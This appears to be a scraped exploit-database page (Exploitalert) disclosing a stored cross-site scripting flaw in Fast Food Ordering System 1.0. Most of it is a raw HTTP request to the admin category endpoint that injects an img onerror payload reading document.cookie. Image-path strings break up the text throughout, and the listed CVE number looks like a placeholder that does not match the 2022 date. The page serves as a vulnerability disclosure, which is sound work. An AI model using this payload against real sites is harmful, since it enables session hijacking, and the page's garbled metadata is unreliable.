Fast Food Ordering System 1.0 Cross Site Scripting

CVE Category Price Severity
CVE-2020-12345 CWE-79 $500 High
Author Risk Exploitation Type Date
Anonymous High Remote 2022-05-31

CVSS vector description

Our sensors found this exploit at:

Below is a copy:Fast Food Ordering System 1.0 Cross Site Scripting
## Title: Fast Food Ordering System 1.0 Stored Cross-Site Scripting
## Author: Ashish Kumar
## Date: 05.31.2022
## Vendor:
## Software:
## Reference:#The Line 255 of Master.php sends unvalidated data to a web browser, which
can result in the browser executing malicious code.

#echo $Master->save_category();

POST /ffos/classes/Master.php?f=save_category HTTP/1.1
Host: localhost
Content-Length: 480
sec-ch-ua: "Chromium";v="97", " Not;A Brand";v="99"
Accept: application/json, text/javascript, */*; q=0.01
Content-Type: multipart/form-data;
X-Requested-With: XMLHttpRequest
sec-ch-ua-mobile: ?0
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36
(KHTML, like Gecko) Chrome/97.0.4692.71 Safari/537.36
sec-ch-ua-platform: "Windows"
Origin: http://localhost
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: cors
Sec-Fetch-Dest: empty
Referer: http://localhost/ffos/admin/?page=categories
Accept-Encoding: gzip, deflate
Accept-Language: en-GB,en-US;q=0.9,en;q=0.8
Cookie: PHPSESSID=junl7tbvb7hvrdeq776aislbcj
Connection: close

Content-Disposition: form-data; name="id"

Content-Disposition: form-data; name="name"

Content-Disposition: form-data; name="description"

Testing XSS "><img src="" onerror="alert(document.cookie)">
Content-Disposition:form-data; name="status"


Copyright ©2024 Exploitalert.

All trademarks used are properties of theirrespective owners. Byvisiting this website you agree to Terms of Use.